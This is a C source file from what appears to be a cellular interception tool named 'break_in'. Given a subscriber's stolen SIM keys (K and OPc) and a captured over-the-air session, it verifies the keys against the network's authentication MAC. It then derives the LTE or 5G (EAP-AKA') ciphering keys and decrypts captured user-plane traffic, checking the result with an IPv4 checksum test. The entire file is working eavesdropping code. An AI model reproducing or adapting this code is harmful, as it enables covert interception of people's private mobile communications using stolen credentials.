#include "theft/break_in.h"

#include <string.h>

#include "auth/milenage.h"
#include "eap/eap_keys.h"
#include "radio/lte_keys.h"
#include "radio/nr_keys.h"

/* SQN is hidden by AK; undo that, then the MAC must match. */
bool break_in_fits(const struct session *session, const uint8_t k[static 16], const uint8_t opc[static 16])
{
	uint8_t res[8], ak[6], sqn[6], mac[8];
	struct milenage m;
	bool fits = false;
	int i;

	if (milenage_start(&m, k, opc, session->rand) == OK && milenage_f2_f5(&m, res, ak) == OK) {
		for (i = 0; i < 6; i++)
			sqn[i] = session->autn[i] ^ ak[i];
		fits = milenage_f1(&m, mac, sqn, session->autn + 6) == OK &&
		       !memcmp(mac, session->autn + 8, 8);
	}
	milenage_stop(&m);
	return fits;
}

/* TS 24.301 9.9.3.32; the home network's code begins the IMSI. */
static void serving_network(uint8_t sn[static 3], const char *imsi, int mnc_length)
{
	const int third = mnc_length == 3 ? imsi[5] - '0' : 0xF;

	sn[0] = (uint8_t)((imsi[1] - '0') << 4 | (imsi[0] - '0'));
	sn[1] = (uint8_t)(third << 4 | (imsi[2] - '0'));
	sn[2] = (uint8_t)((imsi[4] - '0') << 4 | (imsi[3] - '0'));
}

bool break_in_cipher_keys(uint8_t ck[static 16], uint8_t ik[static 16], const uint8_t rand[static 16],
			  const struct stolen_key *key)
{
	struct milenage m;
	bool done = milenage_start(&m, key->k, key->opc, rand) == OK && milenage_f3_f4(&m, ck, ik) == OK;

	milenage_stop(&m);
	return done;
}

/* The session's keys, confirmed by the network's own MAC. The listener does
 * not know how long the network code is, so tries both. */
static bool session_keys(struct lte_keys *keys, const struct session *session, const struct stolen_key *key)
{
	uint8_t ck[16], ik[16], sn[3], copy[NAS_MAX];
	int mnc_length;

	if (strlen(session->imsi) < 6 || !break_in_cipher_keys(ck, ik, session->rand, key))
		return false;
	for (mnc_length = 2; mnc_length <= 3; mnc_length++) {
		serving_network(sn, session->imsi, mnc_length);
		if (lte_keys_derive(keys, ck, ik, sn, session->autn, 0) < 0)
			return false;
		memcpy(copy, session->command, session->command_length);
		if (nas_unprotect(copy, session->command_length, keys, 0, DOWNLINK) > 0)
			return true;
	}
	return false;
}

/* Encipher and decipher are the same thing. */
static bool decipher(struct session *session, const uint8_t key[static 16])
{
	size_t i;

	for (i = 0; i < session->pdu_count; i++) {
		struct pdu *pdu = &session->pdus[i];

		if (eea2(pdu->data, pdu->length, key, pdu->count, AIR_DRB - 1, pdu->direction) < 0)
			return false;
	}
	return true;
}

/* Is this an IPv4 packet (RFC 791 3.1)? The checksum of 20 random bytes is right once in 65,536 times. */
static bool is_packet(const struct pdu *pdu)
{
	uint32_t sum = 0;
	size_t i;

	if (pdu->length < 20 || pdu->data[0] != 0x45)
		return false;
	for (i = 0; i < 20; i += 2)
		sum += (uint32_t)pdu->data[i] << 8 | pdu->data[i + 1];
	while (sum >> 16)
		sum = (sum & 0xFFFF) + (sum >> 16);
	return sum == 0xFFFF && (size_t)(pdu->data[2] << 8 | pdu->data[3]) == pdu->length;
}

static bool are_packets(const struct session *session)
{
	size_t i;

	for (i = 0; i < session->pdu_count; i++)
		if (!is_packet(&session->pdus[i]))
			return false;
	return session->pdu_count > 0;
}

/* KUPenc as it is when nobody made a key of his own, the rest of the way confirmed by the challenge's MAC. */
static bool eap_session_key(uint8_t kup_enc[static 16], const struct session *session,
			    const struct stolen_key *key)
{
	const struct span identity = {(const uint8_t *)session->identity, strlen(session->identity)};
	uint8_t ck[16], ik[16];
	char network[64];
	struct eap_packet p;
	struct eap_keys eap;
	struct nr_keys nr;

	if (eap_packet_read(&p, session->challenge, session->challenge_length) < 0 || !p.kdf_input.length ||
	    p.kdf_input.length >= sizeof(network) || !break_in_cipher_keys(ck, ik, session->rand, key) ||
	    eap_keys_derive(&eap, ck, ik, p.kdf_input, session->autn, identity) < 0 ||
	    eap_packet_check(&p, session->challenge, session->challenge_length, eap.k_aut) != GRANTED)
		return false;
	memcpy(network, p.kdf_input.at, p.kdf_input.length);
	network[p.kdf_input.length] = 0;
	if (nr_keys_derive(&nr, eap.emsk, network, session->imsi) < 0)
		return false;
	memcpy(kup_enc, nr.kup_enc, 16);
	return true;
}

static bool open_eap(struct session *session, const struct stolen_key *key)
{
	uint8_t kup_enc[16];

	if (!eap_session_key(kup_enc, session, key) || !decipher(session, kup_enc))
		return false;
	if (are_packets(session))
		return true;
	(void)decipher(session, kup_enc); /* as it was */
	return false;
}

bool break_in_open(struct session *session, const struct stolen_key *key)
{
	struct lte_keys keys;

	if (!break_in_fits(session, key->k, key->opc))
		return false;
	if (session->by_eap)
		return open_eap(session, key);
	return session_keys(&keys, session, key) && decipher(session, keys.kup_enc);
}
